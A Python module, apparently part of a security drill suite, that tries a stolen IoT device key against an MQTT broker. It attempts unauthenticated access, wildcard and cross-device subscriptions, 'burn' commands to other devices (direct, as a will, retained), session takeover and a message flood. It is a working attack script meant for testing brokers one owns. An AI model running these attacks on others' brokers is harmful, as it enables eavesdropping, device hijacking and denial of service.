"""The thief: a plain paho-mqtt script with a stolen key. It works against any MQTT broker.

Nothing here knows which broker it talks to, and nothing is judged here: the script tries, and
writes down what came back and what it heard. Use it against brokers that are yours:

    python -m motte.drill.thief --host localhost --port 8883 --authority ca.pem \
        --certificate toaster-1.pem --key toaster-1.key --own toaster-1 --victim toaster-2
"""

import argparse
import json
import re
import secrets
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final, Self

import paho.mqtt.client as paho
from paho.mqtt.enums import CallbackAPIVersion, MQTTProtocolVersion
from paho.mqtt.packettypes import PacketTypes
from paho.mqtt.properties import Properties
from paho.mqtt.reasoncodes import ReasonCode

__all__ = ["Answer", "Attack", "Connection", "Haul", "Heard", "Target", "Thief", "Tls"]

PATIENCE_SECONDS: Final = 10.0
"""How long the thief waits for an answer; brokers give a slow peer about as long."""
LISTEN_SECONDS: Final = 3.0
"""How long the thief listens when nobody tells it that there was something to hear."""
KEEP_ALIVE_SECONDS: Final = 60
"""Silence after which it pings, as most devices do."""
SESSION_SECONDS: Final = 300
"""Session expiry that it asks for when it wants to go on with somebody's session."""
FLOOD_MESSAGES: Final = 1000
"""Messages of the flood: a hundred times what a toaster sends in a second."""
WILDCARDS: Final = (("3a", "#"), ("3b", "+/+/+"), ("3c", "$SYS/#"))
"""The filters that everybody tries first: everything, every device, the broker itself."""


@dataclass(frozen=True, slots=True)
class Tls:
    """The stolen files."""

    authority: Path
    certificate: Path
    key: Path


@dataclass(frozen=True, slots=True)
class Target:
    """What the thief knows: where the broker is, whose key it has, whom it is after."""

    host: str
    port: int
    own: str
    victims: tuple[str, ...]
    tls: Tls | None = None
    """``None`` where the broker speaks clear text: no key is needed at all."""
    source: str = ""
    """Address to connect from; empty for any."""
    topics: str = "toasters/{id}/{what}"

    def topic(self, identity: str, what: str) -> str:
        """A topic of one device; the scheme is the same for all and no secret."""
        return self.topics.format(id=identity, what=what)


@dataclass(frozen=True, slots=True)
class Answer:
    """What came back for one packet."""

    packet: str
    accepted: bool
    code: int | None = None
    words: str = ""

    def __str__(self) -> str:
        code = f"0x{self.code:02X}" if self.code is not None else ""
        return " ".join(part for part in (self.packet, code, self.words) if part)


CLOSED: Final = Answer("connection closed", accepted=False)
SILENCE: Final = Answer("no answer", accepted=False)


@dataclass(frozen=True, slots=True)
class Heard:
    """One message that reached the thief."""

    topic: str
    payload: str
    retained: bool


@dataclass(frozen=True, slots=True)
class Haul:
    """What one attack came to, as far as the thief can see."""

    answers: tuple[Answer, ...]
    heard: tuple[Heard, ...] = ()
    nonces: dict[str, str] = field(default_factory=dict)
    """By victim: the mark in the command that was sent to it."""
    flood: tuple[str, int] | None = None
    """The mark in the messages of the flood, and how many were handed to the network."""

    @property
    def answer(self) -> Answer:
        """The best of the answers, seen with the thief's eyes."""
        return next((answer for answer in self.answers if answer.accepted), self.answers[0])


@dataclass(frozen=True, slots=True)
class Attack:
    """One thing to try."""

    key: str
    title: str
    carry_out: Callable[[], Haul]


class Connection:
    """One connection of the thief: a paho client and whatever came back."""

    def __init__(
        self,
        target: Target,
        client_id: str,
        *,
        clear: bool = False,
        certificate: bool = True,
        resume: bool = False,
        password: str | None = None,
        will: tuple[str, str] | None = None,
    ) -> None:
        self.heard: list[Heard] = []
        self.ended: Answer | None = None
        self.ended_at = 0.0
        self._target, self._resume = target, resume
        self._news = threading.Condition()
        self._alert = ""
        self._answers: dict[int, Answer] = {}
        self._connack: Answer | None = None
        self._client = client = paho.Client(
            CallbackAPIVersion.VERSION2,
            client_id=client_id,
            protocol=MQTTProtocolVersion.MQTTv5,
            reconnect_on_failure=False,
        )
        if target.tls is not None and not clear:
            client.tls_set_context(_tls_context(target.tls, certificate=certificate))
        if password is not None:
            client.username_pw_set(client_id, password)
        if will is not None:
            client.will_set(will[0], will[1], qos=1)
        client.on_connect = self._on_connect
        client.on_disconnect = self._on_disconnect
        client.on_message = self._on_message
        client.on_log = self._on_log
        client.on_publish = lambda _c, _u, mid, reason, _p: self._note("PUBACK", mid, reason)
        client.on_subscribe = lambda _c, _u, mid, reasons, _p: self._note("SUBACK", mid, reasons[0])

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._client.disconnect()
        self._client.loop_stop()

    def open(self) -> Answer:
        """Connects."""
        properties = Properties(PacketTypes.CONNECT)  # type: ignore[no-untyped-call]
        properties.SessionExpiryInterval = SESSION_SECONDS if self._resume else 0
        try:
            self._client.connect(
                self._target.host,
                self._target.port,
                keepalive=KEEP_ALIVE_SECONDS,
                bind_address=self._target.source,
                clean_start=not self._resume,
                properties=properties,
            )
        except ssl.SSLError as error:
            return Answer("TLS alert", accepted=False, words=_alert(str(error)))
        except OSError as error:
            return Answer("no connection", accepted=False, words=error.strerror or str(error))
        self._client.loop_start()
        self.wait(lambda: self._connack is not None or self.ended is not None)
        return self._connack or self.ended or SILENCE

    def subscribe(self, topic_filter: str) -> Answer:
        """Subscribes to one filter."""
        _, mid = self._client.subscribe(topic_filter, qos=1)
        return self._answer(mid)

    def publish(self, topic: str, payload: str, *, retain: bool = False) -> Answer:
        """Publishes one message with QoS 1, so that there is an answer."""
        return self._answer(self._client.publish(topic, payload, qos=1, retain=retain).mid)

    def flood(self, topic: str, nonce: str) -> tuple[int, Answer]:
        """Publishes as fast as it can; says how many, and what came back at the end."""
        sent = 0
        for number in range(FLOOD_MESSAGES):
            payload = json.dumps({"nonce": nonce, "n": number})
            if self._client.publish(topic, payload, qos=0).rc != paho.MQTT_ERR_SUCCESS:
                break
            sent += 1
        # The last one has an answer, and the answer comes after everything before it.
        return sent + 1, self.publish(topic, json.dumps({"nonce": nonce, "n": sent}))

    def drop(self) -> None:
        """Ends the connection without a goodbye, which is what makes a broker publish a will."""
        connection = self._client.socket()
        if isinstance(connection, socket.socket):
            connection.shutdown(socket.SHUT_RDWR)
        self.wait(lambda: self.ended is not None)

    def wait(self, happened: Callable[[], bool], seconds: float = PATIENCE_SECONDS) -> bool:
        """Waits until something has happened to this connection; says whether it has."""
        with self._news:
            return self._news.wait_for(happened, seconds)

    def _answer(self, mid: int | None) -> Answer:
        if mid is None:
            return self.ended or CLOSED
        self.wait(lambda: mid in self._answers or self.ended is not None)
        return self._answers.get(mid) or self.ended or SILENCE

    def _note(self, packet: str, mid: int, reason: ReasonCode) -> None:
        with self._news:
            self._answers[mid] = _answer(packet, reason)
            self._news.notify_all()

    def _on_connect(
        self, _c: object, _u: object, _f: object, reason: ReasonCode, _p: object
    ) -> None:
        with self._news:
            self._connack = _answer("CONNACK", reason)
            self._news.notify_all()

    def _on_disconnect(
        self, _c: object, _u: object, flags: paho.DisconnectFlags, reason: ReasonCode, _p: object
    ) -> None:
        with self._news:
            if flags.is_disconnect_packet_from_server:
                self.ended = _answer("DISCONNECT", reason)
            elif self._alert:
                self.ended = Answer("TLS alert", accepted=False, words=self._alert)
            else:
                self.ended = CLOSED
            self.ended_at = time.monotonic()
            self._news.notify_all()

    def _on_message(self, _c: object, _u: object, message: paho.MQTTMessage) -> None:
        text = bytes(message.payload).decode(errors="replace")
        with self._news:
            self.heard.append(Heard(message.topic, text, message.retain))
            self._news.notify_all()

    def _on_log(self, _c: object, _u: object, _level: int, message: str) -> None:
        # The only place where paho says which TLS alert ended a connection.
        if "alert" in message:
            self._alert = _alert(message)


Listen = Callable[[Connection, str], None]
"""Returns when there was something to hear for a connection that claims an identity."""


def _just_wait(connection: Connection, _identity: str) -> None:
    connection.wait(lambda: connection.ended is not None, LISTEN_SECONDS)


class Thief:
    """Everything that the thief tries, in order."""

    def __init__(self, target: Target, listen: Listen = _just_wait) -> None:
        self._target = target
        self._listen = listen

    def attacks(self) -> list[Attack]:
        """The attacks; each makes its own connections and is independent of the others."""
        return [
            Attack("1", "connect without credentials", self.connect_without_credentials),
            Attack("2", "clear text, with a password", self.connect_in_clear_text),
            *(
                Attack(key, f"subscribe to {name}", lambda name=name: self.subscribe([name]))  # type: ignore[misc]
                for key, name in WILDCARDS
            ),
            Attack("3d", "subscribe to others' topics", self.subscribe_to_others),
            Attack("4a", "command another toaster", self.command),
            Attack("4b", "the same as a will", self.command_by_will),
            Attack("4c", "the same, retained", self.command_retained),
            Attack("5", "take over client id, session", self.take_over),
            Attack("6", f"flood: {FLOOD_MESSAGES} messages at once", self.flood),
        ]

    def connect(self) -> Connection:
        """Connects as the device whose key was stolen; to be closed by the caller."""
        connection = Connection(self._target, self._target.own)
        connection.open()
        return connection

    def act_as_itself(self) -> Haul:
        """What a valid key gives: the device's own topics."""
        return self.subscribe([self._target.topic(self._target.own, "command")])

    def connect_without_credentials(self) -> Haul:
        """No certificate, no user name, no password."""
        with Connection(self._target, "anybody", certificate=False) as connection:
            return Haul((connection.open(),))

    def connect_in_clear_text(self) -> Haul:
        """No TLS, and a password that everybody on the way can read."""
        bait = secrets.token_hex(8)
        with Connection(self._target, self._target.own, clear=True, password=bait) as connection:
            return Haul((connection.open(),))

    def subscribe(self, filters: list[str]) -> Haul:
        """Subscribes as the stolen device, and listens if that was allowed or not."""
        own = self._target.topic(self._target.own, "command")
        with Connection(self._target, self._target.own) as connection:
            opened = connection.open()
            if not opened.accepted:
                return Haul((opened,))
            connection.subscribe(own)
            answers = tuple(connection.subscribe(name) for name in filters)
            self._listen(connection, self._target.own)
            return Haul(answers, tuple(connection.heard))

    def subscribe_to_others(self) -> Haul:
        """The topics of the victims by name."""
        return self.subscribe(
            [
                self._target.topic(victim, what)
                for victim in self._target.victims
                for what in ("command", "telemetry")
            ]
        )

    def command(self, *, retain: bool = False) -> Haul:
        """A command to each victim."""
        with Connection(self._target, self._target.own) as connection:
            opened = connection.open()
            if not opened.accepted:
                return Haul((opened,))
            nonces = self._nonces()
            answers = [
                connection.publish(
                    self._target.topic(victim, "command"), _order(nonce), retain=retain
                )
                for victim, nonce in nonces.items()
            ]
            return Haul(tuple(answers), nonces=nonces)

    def command_retained(self) -> Haul:
        """A command that waits for everybody who subscribes later."""
        return self.command(retain=True)

    def command_by_will(self) -> Haul:
        """A command that the broker itself publishes when the thief hangs up."""
        nonces = self._nonces()
        answers = []
        for victim, nonce in nonces.items():
            will = (self._target.topic(victim, "command"), _order(nonce))
            with Connection(self._target, self._target.own, will=will) as connection:
                answers.append(connection.open())
                if answers[-1].accepted:
                    connection.drop()
        return Haul(tuple(answers), nonces=nonces)

    def take_over(self) -> Haul:
        """Connects under each victim's client id and goes on with its session."""
        answers, heard = [], []
        for victim in self._target.victims:
            with Connection(self._target, victim, resume=True) as connection:
                answers.append(connection.open())
                if answers[-1].accepted:
                    self._listen(connection, victim)
                heard += connection.heard
        return Haul(tuple(answers), tuple(heard))

    def flood(self) -> Haul:
        """More messages than anybody should send, on a topic that the key is good for."""
        nonce = secrets.token_hex(8)
        with Connection(self._target, self._target.own) as connection:
            opened = connection.open()
            if not opened.accepted:
                return Haul((opened,), flood=(nonce, 0))
            sent, answer = connection.flood(
                self._target.topic(self._target.own, "telemetry"), nonce
            )
            return Haul((answer,), flood=(nonce, sent))

    def _nonces(self) -> dict[str, str]:
        return {victim: secrets.token_hex(8) for victim in self._target.victims}


def _order(nonce: str) -> str:
    return json.dumps({"do": "burn", "nonce": nonce})


def _answer(packet: str, reason: ReasonCode) -> Answer:
    return Answer(packet, not reason.is_failure, reason.value, str(reason))


def _tls_context(tls: Tls, *, certificate: bool) -> ssl.SSLContext:
    context = ssl.create_default_context(cafile=str(tls.authority))
    if certificate:
        context.load_cert_chain(tls.certificate, tls.key)
    return context


def _alert(message: str) -> str:
    """The alert's own words out of OpenSSL's message."""
    found = re.search(r"alert ([a-z ]+)", message, re.IGNORECASE)
    return found[1].strip() if found else message


def _arguments() -> argparse.Namespace:
    parser = argparse.ArgumentParser(description="Try a stolen key on a broker that is yours.")
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--own", required=True, help="client id of the device with the stolen key")
    parser.add_argument("--victim", action="append", required=True, help="repeatable")
    for name in ("authority", "certificate", "key"):
        parser.add_argument(f"--{name}", type=Path, help="PEM file; leave out for clear text")
    parser.add_argument("--topics", default="toasters/{id}/{what}", help="scheme of the topics")
    return parser.parse_args()


def main() -> None:
    """Tries everything once and writes what came back."""
    given: Any = _arguments()
    files = (given.authority, given.certificate, given.key)
    tls = Tls(*files) if all(files) else None
    victims = tuple(given.victim)
    target = Target(given.host, given.port, given.own, victims, tls, topics=given.topics)
    for attack in Thief(target).attacks():
        haul = attack.carry_out()
        topics = sorted({message.topic for message in haul.heard})
        heard = f", heard {len(topics)} topics, one is {topics[0]!a}" if topics else ""
        sys.stdout.write(f"{attack.key:<3} {attack.title}: {haul.answer}{heard}\n")


if __name__ == "__main__":
    main()
